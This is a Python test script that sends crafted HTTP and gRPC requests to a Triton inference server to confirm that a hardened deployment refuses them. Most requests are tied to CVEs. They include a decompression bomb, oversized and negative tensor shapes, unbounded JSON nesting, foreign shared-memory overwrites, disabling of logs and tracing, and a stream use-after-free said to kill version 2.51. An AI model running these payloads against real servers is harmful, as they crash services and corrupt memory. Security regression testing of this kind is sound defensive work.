"""Requests that crash, hang or take over a Triton that is open to them. None may harm a server of `twinspire serve`.

By hand, against a server that may be lost: `python tests/server/attacks.py HOST HTTP_PORT GRPC_PORT [MODELS]`, where
MODELS are named MODELS_text and MODELS_image, by default `scenes`. It tells the answer to each request and ends with
status 1 where the server is not ready afterwards.
"""

from __future__ import annotations

import gzip
import json
import secrets
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager, suppress
from dataclasses import dataclass
from http.client import HTTPConnection, HTTPException
from pathlib import Path
from typing import Any

import grpc
import numpy as np
from tritonclient.grpc import service_pb2 as pb
from tritonclient.grpc import service_pb2_grpc

TIMEOUT_S = 30.0
CHUNKS = 600_000
_MEGABYTE = 1 << 20


@dataclass(frozen=True)
class Target:
    """A server. `context` is its texts' length, `size` its images' width; `headers` go with each HTTP request."""

    host: str
    http_port: int
    grpc_port: int
    models: str = "scenes"
    context: int = 64
    size: int = 112
    headers: tuple[tuple[str, str], ...] = ()

    @property
    def text(self) -> str:
        """The name of the text model."""
        return f"{self.models}_text"

    @property
    def image(self) -> str:
        """The name of the image model."""
        return f"{self.models}_image"

    def http(self, method: str, path: str, body: bytes | None = None, headers: dict[str, str] | None = None) -> str:
        """Send a request; return the answer's status, or what became of the connection."""
        try:
            with closing(HTTPConnection(self.host, self.http_port, timeout=TIMEOUT_S)) as connection:
                connection.request(method, path, body, {**dict(self.headers), **(headers or {})})
                return f"HTTP {connection.getresponse().status}"
        except (OSError, HTTPException) as error:
            return f"no answer: {type(error).__name__}"

    def chunked(self, path: str) -> str:
        """Post a body of very many chunks of one byte."""
        head = "".join(f"{name}: {value}\r\n" for name, value in self.headers)
        request = f"POST {path} HTTP/1.1\r\nHost: {self.host}\r\nTransfer-Encoding: chunked\r\n{head}\r\n".encode()
        try:
            with socket.create_connection((self.host, self.http_port), TIMEOUT_S) as connection:
                connection.sendall(request + b"1\r\nA\r\n" * CHUNKS + b"0\r\n\r\n")
                status = connection.recv(64).split(b" ", 2)
        except OSError as error:
            return f"no answer: {type(error).__name__}"
        return f"HTTP {status[1].decode()}" if len(status) > 1 else "no answer: closed"

    @contextmanager
    def stub(self) -> Iterator[Any]:
        """Open a gRPC channel without limits of size."""
        unlimited = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1)]
        with grpc.insecure_channel(f"{self.host}:{self.grpc_port}", options=unlimited) as channel:
            yield service_pb2_grpc.GRPCInferenceServiceStub(channel)

    def call(self, method: str, request: Any) -> str:
        """Call a method of the gRPC service; return the status of the answer."""
        with self.stub() as stub:
            try:
                getattr(stub, method)(request, timeout=TIMEOUT_S)
            except grpc.RpcError as error:
                return f"gRPC {error.code().name}"
            return "gRPC OK"

    def text_request(self, shape: tuple[int, ...] | None = None, raw: bytes | None = None) -> Any:
        """Make an inference of the text model; without arguments a text that starts and ends right."""
        row = np.zeros((1, self.context), np.int32)
        row[0, :2] = 1, 2
        return _inference(self.text, "input_ids", "INT32", shape or row.shape, row.tobytes() if raw is None else raw)

    def image_request(self, count: int = 1, raw: bytes | None = None) -> Any:
        """Make an inference of the image model."""
        data = bytes(max(count, 0) * self.size**2 * 3) if raw is None else raw
        return _inference(self.image, "image", "UINT8", (count, self.size, self.size, 3), data)


def _inference(model: str, name: str, datatype: str, shape: tuple[int, ...], raw: bytes) -> Any:
    request = pb.ModelInferRequest(model_name=model, raw_input_contents=[raw])
    tensor = request.inputs.add()
    tensor.name, tensor.datatype = name, datatype
    tensor.shape.extend(shape)
    return request


def http_shape(target: Target) -> str:
    """Write beyond a buffer: 2^62 elements of four bytes are none (CVE-2025-23324 and its kind)."""
    tensor = {"name": "input_ids", "datatype": "INT32", "shape": [1, 2**62], "data": [1, 5, 6, 2]}
    return target.http("POST", f"/v2/models/{target.text}/infer", json.dumps({"inputs": [tensor]}).encode())


def http_nesting(target: Target) -> str:
    """Recurse without bound (CVE-2025-23325)."""
    return target.http("POST", "/v2/repository/index", b"[" * _MEGABYTE)


def http_compression(target: Target) -> str:
    """Send a body that grows a thousandfold (CVE-2026-24158)."""
    body = gzip.compress(bytes(256 * _MEGABYTE), 1)
    return target.http("POST", f"/v2/models/{target.text}/infer", body, {"Content-Encoding": "gzip"})


def http_header(target: Target) -> str:
    """Announce a header of a length that is no number that fits (CVE-2026-24175, CVE-2026-47480)."""
    headers = {"Inference-Header-Content-Length": "9" * 40}
    return target.http("POST", f"/v2/models/{target.text}/infer", b"{}", headers)


def http_inference(target: Target) -> str:
    """Ask for an inference as any caller may of an open server."""
    row = [1, 2, *[0] * (target.context - 2)]
    tensor = {"name": "input_ids", "datatype": "INT32", "shape": [1, target.context], "data": row}
    return target.http("POST", f"/v2/models/{target.text}/infer", json.dumps({"inputs": [tensor]}).encode())


def http_register(target: Target) -> str:
    """Overwrite another program's shared memory (CVE-2025-23319, CVE-2025-23329). On the server's machine alone."""
    name = f"attack_{secrets.token_hex(4)}"
    foreign, content = Path("/dev/shm") / name, b"foreign" * 512
    foreign.write_bytes(content)
    try:
        region = {"key": f"/{name}", "offset": 0, "byte_size": len(content)}
        answer = target.http("POST", f"/v2/systemsharedmemory/region/{name}/register", json.dumps(region).encode())
        request = target.text_request()
        output = request.outputs.add()
        output.name = "embedding"
        output.parameters["shared_memory_region"].string_param = name
        output.parameters["shared_memory_byte_size"].int64_param = len(content)
        target.call("ModelInfer", request)
        return answer if foreign.read_bytes() == content else "overwrote foreign memory"
    finally:
        foreign.unlink()


def http_logging(target: Target) -> str:
    """Switch the log off."""
    settings = {"log_error": False, "log_warning": False, "log_info": False}
    return target.http("POST", "/v2/logging", json.dumps(settings).encode())


def http_trace(target: Target) -> str:
    """Trace every tensor of every caller."""
    return target.http("POST", "/v2/trace/setting", b'{"trace_level":["TENSORS"],"trace_rate":"1"}')


def grpc_shapes(target: Target) -> str:
    """Kill a model's process by shapes whose size in bytes is 0 or negative. All must be answered alike."""
    sizes = (2**62, -(2**63), 2**61, 2**32, -1)
    requests = [target.text_request((1, size), b"") for size in sizes]
    requests += [target.text_request((2**62, target.context), b""), target.image_request(2**62, b"")]
    answers = {target.call("ModelInfer", request) for request in requests}
    return answers.pop() if len(answers) == 1 else f"several answers: {sorted(answers)}"


def grpc_batch(target: Target) -> str:
    """Claim a batch whose size in bytes is that of one row."""
    rows = 2**64 // (target.context * 4) if 2**64 % (target.context * 4) == 0 else 2**62 // 5
    return target.call("ModelInfer", target.text_request((rows, target.context), b""))


def grpc_large_text(target: Target) -> str:
    """Send a text of 100 MB."""
    count = 25 * _MEGABYTE
    return target.call("ModelInfer", target.text_request((1, count), bytes(4 * count)))


def grpc_raw_shapes(target: Target) -> str:
    """Send files and texts in shapes whose size in bytes is 0, negative or none. All must be answered alike."""
    sizes = (2**62, -(2**63), 2**61, 2**32, -1, 0, 2)
    shapes = [(1, size) for size in sizes] + [(size, 1) for size in sizes] + [(1,), (), (1, 1, 1), (2**32, 2**32)]
    return _alike(target, [(shape, b"\4\0\0\0\xff\xd8\xff\xe0") for shape in shapes] + [((1, 1), b"")])


def grpc_raw_lengths(target: Target) -> str:
    """Announce strings that go beyond the content, end before it, or are missing. All must be answered alike."""
    contents = [length.to_bytes(4, "little") + b"\xff\xd8" for length in (1, 3, 2**31 - 1, 2**31, 2**32 - 1)]
    contents += [b"", b"\0", b"\2\0\0", b"\0\0\0\0" * 2]
    return _alike(target, [((1, 1), content) for content in contents])


def _alike(target: Target, inputs: list[tuple[tuple[int, ...], bytes]]) -> str:
    """Send inputs to each model of raw inputs, and to the description; return the one answer that all of them get."""
    models = [(f"{target.models}_{name}", "image_bytes") for name in ("image_bytes", "decode")]
    models += [(f"{target.models}_{name}", "text") for name in ("text_raw", "tokenize")]
    requests = [_inference(model, name, "BYTES", shape, raw) for model, name in models for shape, raw in inputs]
    requests += [_inference("twinspire", "bundle", "BYTES", shape, raw) for shape, raw in inputs if shape != (1,)]
    answers = {target.call("ModelInfer", request) for request in requests}
    return answers.pop() if len(answers) == 1 else f"several answers: {sorted(answers)}"


def grpc_large_file(target: Target) -> str:
    """Send a file of 100 MB that claims to be a PNG, and texts of 100 MB."""
    size = 100 * _MEGABYTE
    file = b"\x89PNG\r\n\x1a\n".ljust(size, b"\0")
    requests = [
        (f"{target.models}_image_bytes", "image_bytes", file),
        (f"{target.models}_text_raw", "text", b"a" * size),
    ]
    answers = {
        target.call("ModelInfer", _inference(model, name, "BYTES", (1, 1), size.to_bytes(4, "little") + content))
        for model, name, content in requests
    }
    return answers.pop() if len(answers) == 1 else f"several answers: {sorted(answers)}"


def grpc_outputs(target: Target) -> str:
    """Ask for very many outputs (CVE-2026-24146)."""
    request = target.text_request()
    for number in range(100_000):
        request.outputs.add().name = f"output_{number}"
    return target.call("ModelInfer", request)


def grpc_classification(target: Target) -> str:
    """Ask for a negative number of classes in place of the embedding."""
    request = target.text_request()
    output = request.outputs.add()
    output.name = "embedding"
    output.parameters["classification"].int64_param = -(2**62)
    return target.call("ModelInfer", request)


def grpc_shared_memory(target: Target) -> str:
    """Register the shared memory that another program keeps under a name that it tells nobody."""
    return target.call("SystemSharedMemoryRegister", pb.SystemSharedMemoryRegisterRequest(name="a", key="/a"))


def grpc_logging(target: Target) -> str:
    """Switch the log off."""
    request = pb.LogSettingsRequest()
    request.settings["log_error"].bool_param = False
    return target.call("LogSettings", request)


def grpc_trace(target: Target) -> str:
    """Trace every tensor of every caller."""
    request = pb.TraceSettingRequest()
    request.settings["trace_level"].value.append("TENSORS")
    return target.call("TraceSetting", request)


def grpc_unload(target: Target) -> str:
    """Take a model away."""
    return target.call("RepositoryModelUnload", pb.RepositoryModelUnloadRequest(model_name=target.text))


def grpc_cancellations(target: Target) -> str:
    """Cancel calls and streams at every moment, from six connections for two seconds (CVE-2025-23322)."""
    end_s = time.monotonic() + 2
    broken = target.text_request(raw=np.full(target.context, 5, np.int32).tobytes())  # has no end token
    requests = [target.text_request(), broken, target.image_request(4)]
    for name, content in (("text_raw", b"a red cat"), ("image_bytes", b"no image")):
        tensor = name.replace("text_raw", "text")
        raw = len(content).to_bytes(4, "little") + content
        requests.append(_inference(f"{target.models}_{name}", tensor, "BYTES", (1, 1), raw))

    def cancel(seed: int) -> None:
        generator = np.random.default_rng(seed)
        with target.stub() as stub:
            while time.monotonic() < end_s:
                chosen = [requests[place] for place in generator.integers(0, len(requests), 20)]
                call = stub.ModelInfer.future(chosen[0], timeout=float(generator.uniform(0, 0.02)))
                stream = stub.ModelStreamInfer(iter(chosen), timeout=float(generator.uniform(0, 0.05)))
                with suppress(grpc.RpcError):
                    for _ in range(int(generator.integers(0, 5))):
                        next(stream, None)
                stream.cancel()
                call.cancel()

    threads = [threading.Thread(target=cancel, args=(seed,)) for seed in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return "cancelled"


def grpc_stream_errors(target: Target) -> str:
    """Use a stream's state after it is freed: errors end a stream in this mode (CVE-2026-24266). Kills 2.51."""
    wrong = target.text_request(raw=np.full(target.context, 5, np.int32).tobytes())  # has no end token
    mode = (("triton_grpc_error", "true"),)
    with target.stub() as stub:
        for _ in range(200):
            try:
                stream = stub.ModelStreamInfer(iter([target.text_request(), wrong] * 50), metadata=mode, timeout=5)
                for _ in stream:
                    pass
            except grpc.RpcError as error:
                if error.code() is grpc.StatusCode.UNAVAILABLE:
                    return "gRPC UNAVAILABLE"
    return "gRPC OK"


def _chunks(path: str) -> Callable[[Target], str]:
    return lambda target: target.chunked(path.format(text=target.text))


FORBIDDEN, NOT_ALLOWED, RESTRICTED, INVALID = "HTTP 403", "HTTP 405", "gRPC UNAVAILABLE", "gRPC INVALID_ARGUMENT"
_POSTS = {
    **dict.fromkeys(
        (
            *("/v2/models/{text}/infer", "/v2/models/{text}/versions/1/infer"),
            *("/v2/models/{text}/generate", "/v2/models/{text}/generate_stream"),
            *("/v2/repository/index", "/v2/repository/models/{text}/load", "/v2/repository/models/{text}/unload"),
            *("/v2/systemsharedmemory/region/a/register", "/v2/systemsharedmemory/unregister"),
            *("/v2/cudasharedmemory/region/a/register", "/v2/cudasharedmemory/unregister"),
            *("/v2/trace/setting", "/v2/models/{text}/trace/setting", "/v2/logging"),
            *("/v2/models/{text}/config", "/v2/models/{text}/stats"),
        ),
        FORBIDDEN,
    ),
    **dict.fromkeys(("/v2", "/v2/health/ready", "/v2/models/{text}", "/v2/models/{text}/ready"), NOT_ALLOWED),
    "/nothing": "HTTP 404",
}
ATTACKS: dict[str, tuple[Callable[[Target], str], str]] = {
    **{f"chunks {path}": (_chunks(path), answer) for path, answer in _POSTS.items()},
    "http shape": (http_shape, FORBIDDEN),
    "http nesting": (http_nesting, FORBIDDEN),
    "http compression": (http_compression, FORBIDDEN),
    "http header": (http_header, FORBIDDEN),
    "http inference": (http_inference, FORBIDDEN),
    "http register": (http_register, FORBIDDEN),
    "http logging": (http_logging, FORBIDDEN),
    "http trace": (http_trace, FORBIDDEN),
    "grpc shapes": (grpc_shapes, INVALID),
    "grpc batch": (grpc_batch, INVALID),
    "grpc large text": (grpc_large_text, INVALID),
    "grpc raw shapes": (grpc_raw_shapes, INVALID),
    "grpc raw lengths": (grpc_raw_lengths, INVALID),
    "grpc large file": (grpc_large_file, INVALID),
    "grpc outputs": (grpc_outputs, INVALID),
    "grpc classification": (grpc_classification, INVALID),
    "grpc shared memory": (grpc_shared_memory, RESTRICTED),
    "grpc logging": (grpc_logging, RESTRICTED),
    "grpc trace": (grpc_trace, RESTRICTED),
    "grpc unload": (grpc_unload, RESTRICTED),
    "grpc cancellations": (grpc_cancellations, "cancelled"),
}
"""Each attack and what a closed server answers. `grpc_stream_errors` is not among them: no flag of 2.51 closes it."""


def main() -> int:
    """Run every attack, then see whether the server is ready."""
    host, http_port, grpc_port, *models = sys.argv[1:]
    target = Target(host, int(http_port), int(grpc_port), *models)
    with target.stub() as stub:
        config = stub.ModelConfig(pb.ModelConfigRequest(name=target.text), timeout=TIMEOUT_S).config
        images = stub.ModelConfig(pb.ModelConfigRequest(name=target.image), timeout=TIMEOUT_S).config
    target = Target(
        host, int(http_port), int(grpc_port), target.models, config.input[0].dims[0], images.input[0].dims[0]
    )
    for name, (attack, expected) in ATTACKS.items():
        answer = attack(target)
        print(f"{name:48} {answer}{'' if answer == expected else f'   (a closed server: {expected})'}", flush=True)
    ready = target.http("GET", "/v2/health/ready")
    print(f"{'ready':48} {ready}")
    return 0 if ready == "HTTP 200" else 1


if __name__ == "__main__":
    sys.exit(main())
